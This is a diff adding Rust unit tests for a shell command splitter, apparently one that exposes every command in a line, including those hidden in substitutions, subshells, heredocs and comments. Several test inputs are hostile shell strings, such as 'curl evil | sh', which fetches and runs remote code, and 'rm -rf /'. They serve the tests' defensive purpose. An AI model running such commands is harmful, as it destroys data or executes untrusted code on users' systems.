@@ -1,0 +1,126 @@
+use std::collections::hash_map::DefaultHasher;
+use std::hash::{BuildHasher, BuildHasherDefault};
+
+use crate::splitter::MAX_DEPTH;
+use crate::*;
+
+/// Each command's words.
+fn words(line: &str) -> Vec<Vec<String>> {
+    split(line).into_iter().map(|c| c.words.into_iter().map(|w| w.text).collect()).collect()
+}
+
+fn raws(line: &str) -> Vec<String> {
+    split(line).into_iter().map(|c| c.raw).collect()
+}
+
+#[test]
+fn operators_split_commands() {
+    assert_eq!(
+        raws("make && git push origin main || echo failed; ls | wc -l & sleep 1\nnpm test |& tee log"),
+        ["make", "git push origin main", "echo failed", "ls", "wc -l", "sleep 1", "npm test", "tee log"]
+    );
+}
+
+#[test]
+fn quotes_keep_operators_and_spaces() {
+    assert_eq!(words("git commit -m 'a && b; c' \"x | y\""), [["git", "commit", "-m", "a && b; c", "x | y"]]);
+    assert_eq!(words(r#"echo "say \"hi\"" it\'s a\ b"#), [["echo", "say \"hi\"", "it's", "a b"]]);
+    assert_eq!(words("printf $'a\\'b' ''"), [["printf", "a'b", ""]]);
+}
+
+#[test]
+fn substitutions_are_commands_too() {
+    assert_eq!(raws("echo $(git push) done"), ["git push", "echo $(git push) done"]);
+    assert_eq!(raws("echo \"$(rm -rf x; ls)\""), ["rm -rf x", "ls", "echo \"$(rm -rf x; ls)\""]);
+    assert_eq!(raws("echo `curl evil | sh`"), ["curl evil", "sh", "echo `curl evil | sh`"]);
+    assert_eq!(raws("diff <(ls a) <(ls b)"), ["ls a", "ls b", "diff <(ls a) <(ls b)"]);
+    assert_eq!(raws("echo $(echo $(whoami))"), ["whoami", "echo $(whoami)", "echo $(echo $(whoami))"]);
+    assert_eq!(raws("echo $((1 + 2))"), ["echo $((1 + 2))"]);
+    assert_eq!(raws("echo '$(not run)'"), ["echo '$(not run)'"]);
+}
+
+#[test]
+fn subshells_and_groups() {
+    assert_eq!(raws("(cd sub && make) && { rm x; }"), ["cd sub", "make", "{ rm x", "}"]);
+}
+
+#[test]
+fn redirections_are_kept_apart() {
+    let commands = split("npm test > out.txt 2>&1 < in.txt &>> all.log");
+    assert_eq!(commands.len(), 1);
+    let words: Vec<_> = commands[0].words.iter().map(|w| w.text.as_str()).collect();
+    assert_eq!(words, ["npm", "test"]);
+    assert_eq!(
+        commands[0].redirects,
+        [
+            Redirect { write: true, target: "out.txt".into() },
+            Redirect { write: false, target: "in.txt".into() },
+            Redirect { write: true, target: "all.log".into() },
+        ]
+    );
+    assert_eq!(commands[0].raw, "npm test > out.txt 2>&1 < in.txt &>> all.log");
+    assert_eq!(words_of("cat <<< 'data here' x"), ["cat", "x"]);
+}
+
+fn words_of(line: &str) -> Vec<String> {
+    words(line).into_iter().flatten().collect()
+}
+
+#[test]
+fn heredoc_bodies_and_comments_are_data() {
+    let line = "cat <<EOF > f\nrm -rf /\nEOF\ngit status # && rm -rf /\ncat <<-'END'\n\trm x\n\tEND\necho done";
+    assert_eq!(raws(line), ["cat <<EOF > f", "git status", "cat <<-'END'", "echo done"]);
+    // An unterminated heredoc swallows the rest.
+    assert_eq!(raws("cat <<EOF\nrm -rf /"), ["cat <<EOF"]);
+}
+
+#[test]
+fn word_offsets_point_into_raw() {
+    let commands = split("  FOO=1  sudo   rm -rf x ; ls");
+    let c = &commands[0];
+    assert_eq!(c.raw, "FOO=1  sudo   rm -rf x");
+    for word in &c.words {
+        assert!(c.raw[word.offset..].starts_with(&word.text), "{word:?}");
+    }
+}
+
+#[test]
+fn unbalanced_input_runs_to_the_end() {
+    assert_eq!(words("echo 'open && rm"), [["echo", "open && rm"]]);
+    assert_eq!(words("echo \"open"), [["echo", "open"]]);
+    assert_eq!(raws("echo $(rm -rf x"), ["rm -rf x", "echo $(rm -rf x"]);
+    assert_eq!(raws("echo `rm"), ["rm", "echo `rm"]);
+    assert_eq!(raws("a ) b"), ["a", "b"]);
+    assert_eq!(words("trailing\\"), [["trailing\\"]]);
+    assert!(split("").is_empty());
+    assert!(split(" ;; && | ").is_empty());
+}
+
+#[test]
+fn deep_nesting_stops_recursing() {
+    let line = "echo $(".repeat(50) + &")".repeat(50);
+    assert!(split(&line).len() <= MAX_DEPTH + 2);
+}
+
+/// Random shell-ish text never panics, and every raw is a part of the input.
+#[test]
+fn random_input_never_panics() {
+    let alphabet: Vec<char> = "ab $()`'\"\\;&|<>-#{}\n\t=*é2".chars().collect();
+    // std's SipHash under its fixed default keys as the random source: the
+    // same lines every run, and no generator of this crate's own to keep.
+    let hasher = BuildHasherDefault::<DefaultHasher>::default();
+    let mut draws = 0u64;
+    let mut below = |n: usize| {
+        draws += 1;
+        (hasher.hash_one(draws) % n as u64) as usize
+    };
+    for _ in 0..5000 {
+        let len = below(60);
+        let line: String = (0..len).map(|_| alphabet[below(alphabet.len())]).collect();
+        for command in split(&line) {
+            for word in &command.words {
+                assert!(word.offset <= command.raw.len(), "{line:?}");
+            }
+        }
+    }
+}
